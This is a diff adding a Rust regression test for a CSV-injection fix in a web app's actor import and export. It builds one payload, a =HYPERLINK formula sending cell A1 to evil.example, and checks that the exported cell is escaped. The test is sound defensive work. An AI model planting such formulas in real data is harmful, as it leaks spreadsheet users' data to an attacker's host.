@@ -114,7 +114,43 @@ async fn manager_adds_a_link(app: &App) {
     assert_eq!(edges(&app.api(None, "/api/v1/network").await), before + 1);
 }
 
+/// Issue 17's CSV injection, as the attacker did it: an area manager's
+/// import gives an actor the offer `=HYPERLINK(…)`. The public CSV export
+/// used to carry it as a formula; now the cell is text (`'=…`), as is a
+/// phone number beginning with `+`, while the XLSX export keeps plain text.
+async fn exported_csv_cells_are_never_formulas(app: &App) {
+    let keskinen = app.login("aluepaallikko.keskinen@oulu.example").await;
+    let csrf = app.csrf(&keskinen, "/actors").await;
+    let offer = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Avaa\")";
+    let csv = format!(
+        "code;name;sector;areas;offer;phone\nkerho-hyokkays;Kerho;third_sector;tuira;\"{}\";+358 40 123 4567\n",
+        offer.replace('"', "\"\"")
+    );
+    let form = reqwest::multipart::Form::new().text("csrf", csrf).part(
+        "file",
+        reqwest::multipart::Part::bytes(csv.into_bytes()).file_name("toimijat.csv"),
+    );
+    let r = keskinen
+        .post(app.url("/actors/import"))
+        .multipart(form)
+        .send()
+        .await
+        .expect("import");
+    assert_eq!(r.status(), 303, "{}", r.text().await.unwrap_or_default());
+    let export = app.page(&anonymous(), "/actors/export?format=csv").await;
+    let line = export
+        .lines()
+        .find(|l| l.starts_with("kerho-hyokkays;"))
+        .expect("the imported actor in the export");
+    assert!(
+        line.contains("'=HYPERLINK(") && line.contains(";'+358 40 123 4567"),
+        "{line}"
+    );
+    assert!(!line.contains(";=") && !line.contains(";\"="), "{line}");
+}
+
 on_both_databases!(
+    exported_csv_cells_are_never_formulas,
     register_hides_contact_people_from_the_public,
     proposals_by_the_actors_own_people,
     map_page_and_api_agree,
